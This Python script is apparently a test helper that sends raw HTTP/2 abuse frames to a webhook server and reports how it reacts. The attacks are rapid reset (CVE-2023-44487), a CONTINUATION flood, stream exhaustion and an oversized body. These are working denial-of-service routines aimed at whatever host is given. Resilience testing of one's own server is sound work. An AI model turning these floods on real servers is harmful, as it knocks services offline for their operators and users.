"""HTTP/2 abuse against the webhook, with raw frames (hyperframe + hpack, from
the `h2` project): rapid reset, a CONTINUATION flood, more streams than the
server allows, and an over-limit body. Driven by webhook/tests/h2_abuse.rs,
which checks afterwards that admission and /healthz still answer.

usage: h2_abuse.py ATTACK HOST PORT CA_FILE
Prints one JSON object: what was sent and how the server reacted.
"""

import json
import socket
import ssl
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Conn:
    """One TLS connection speaking raw HTTP/2 frames."""

    def __init__(self, host, port, ca_file):
        ctx = ssl.create_default_context(cafile=ca_file)
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection((host, port), timeout=10)
        self.sock = ctx.wrap_socket(raw, server_hostname="localhost")
        assert self.sock.selected_alpn_protocol() == "h2", "server did not pick h2"
        self.buf = b""
        self.closed = False
        self.goaway = None
        self.resets = 0
        self.statuses = []
        self.max_streams = None
        # Flow control for what we send: the server's windows.
        self.conn_window = 65535
        self.initial_window = 65535
        self.stream_windows = {}
        self.enc = Encoder()
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())

    def send(self, frames):
        data = b"".join(f.serialize() for f in frames)
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
            self.closed = True
            return False

    def headers(self, stream_id, path="/mutate", end_stream=False, extra=()):
        block = self.enc.encode(
            [
                (":method", "POST"),
                (":scheme", "https"),
                (":authority", "localhost"),
                (":path", path),
                ("content-type", "application/json"),
            ]
            + list(extra)
        )
        flags = ["END_HEADERS"] + (["END_STREAM"] if end_stream else [])
        return HeadersFrame(stream_id, data=block, flags=flags)

    def pump(self, timeout):
        """Read frames for up to `timeout` seconds (or until the server closes)."""
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            self.sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                chunk = self.sock.recv(65536)
            except (socket.timeout, TimeoutError):
                break
            except (ConnectionResetError, ssl.SSLError, OSError):
                self.closed = True
                break
            if not chunk:
                self.closed = True
                break
            self.buf += chunk
            self._parse()

    def _parse(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(self.buf[:9])
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                self.max_streams = frame.settings.get(
                    SettingsFrame.MAX_CONCURRENT_STREAMS, self.max_streams
                )
                new = frame.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE)
                if new is not None:
                    for sid in self.stream_windows:
                        self.stream_windows[sid] += new - self.initial_window
                    self.initial_window = new
                self.send([SettingsFrame(0, flags=["ACK"])])
            elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                self.send([PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"])])
            elif isinstance(frame, WindowUpdateFrame):
                if frame.stream_id == 0:
                    self.conn_window += frame.window_increment
                else:
                    self.stream_windows[frame.stream_id] = (
                        self.stream_windows.get(frame.stream_id, self.initial_window)
                        + frame.window_increment
                    )
            elif isinstance(frame, GoAwayFrame):
                self.goaway = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                self.resets += 1
            elif isinstance(frame, HeadersFrame):
                # The server's first header is :status (hpack static table or literal).
                self.statuses.append(_status(frame.data))


def _status(block):
    from hpack import Decoder

    try:
        return dict(Decoder().decode(block)).get(":status")
    except Exception:  # a later block may use the dynamic table: not needed here
        return None


def rapid_reset(c):
    """Open a stream and cancel it at once, thousands of times (CVE-2023-44487)."""
    sent = 0
    for i in range(5000):
        sid = 1 + 2 * i
        if not c.send([c.headers(sid), RstStreamFrame(sid, error_code=8)]):
            break
        sent += 1
        if i % 100 == 0:
            c.pump(0.001)
    c.pump(2)
    return {"streams_reset": sent}


def continuation_flood(c):
    """A header block that never ends: CONTINUATION frames without END_HEADERS
    (CVE-2024-27316 and kin). The server must stop it, not buffer it."""
    first = HeadersFrame(1, data=c.enc.encode([(":method", "POST")]), flags=[])
    c.send([first])
    filler = c.enc.encode([("x-flood", "a" * 4000)])
    sent = 0
    for _ in range(20000):  # 80 MB if nothing stops it
        if not c.send([ContinuationFrame(1, data=filler, flags=[])]):
            break
        sent += 1
        if sent % 50 == 0:
            c.pump(0.001)
            if c.closed or c.goaway is not None:
                break
    c.pump(2)
    return {"continuation_frames_sent": sent, "bytes_sent": sent * len(filler)}


def many_streams(c):
    """Open far more concurrent streams than SETTINGS_MAX_CONCURRENT_STREAMS
    allows, each waiting for a body that never comes."""
    c.pump(0.5)  # the server's SETTINGS
    frames = [c.headers(1 + 2 * i) for i in range(1000)]
    c.send(frames)
    c.pump(2)
    return {"streams_opened": 1000}


def oversized_body(c, declare_length):
    """A 4 MiB body on one stream, sent as fast as flow control allows: the
    server must answer 413 (early when the length is declared), not reset the
    connection."""
    c.pump(0.3)
    size = 4 * 1024 * 1024
    extra = [("content-length", str(size))] if declare_length else []
    c.send([c.headers(1, extra=extra), WindowUpdateFrame(0, window_increment=1 << 30)])
    c.stream_windows.setdefault(1, c.initial_window)
    chunk = b"{" + b" " * 16383
    sent = 0
    deadline = time.monotonic() + 20
    while sent < size and not c.closed and not c.statuses and time.monotonic() < deadline:
        n = min(len(chunk), size - sent, c.conn_window, c.stream_windows[1])
        if n <= 0:
            c.pump(0.05)
            continue
        flags = ["END_STREAM"] if sent + n >= size else []
        if not c.send([DataFrame(1, data=chunk[:n], flags=flags)]):
            break
        sent += n
        c.conn_window -= n
        c.stream_windows[1] -= n
        c.pump(0.0005)
    c.pump(3)
    return {"body_bytes_sent": sent}


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "many-streams": many_streams,
    "oversized-body": lambda c: oversized_body(c, True),
    "oversized-body-unannounced": lambda c: oversized_body(c, False),
}


def main():
    attack, host, port, ca_file = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    c = Conn(host, port, ca_file)
    started = time.monotonic()
    report = ATTACKS[attack](c)
    report.update(
        {
            "attack": attack,
            "seconds": round(time.monotonic() - started, 3),
            "server_closed": c.closed,
            "goaway_error_code": c.goaway,
            "server_resets": c.resets,
            "statuses": c.statuses[:20],
            "server_max_concurrent_streams": c.max_streams,
        }
    )
    print(json.dumps(report))


if __name__ == "__main__":
    main()
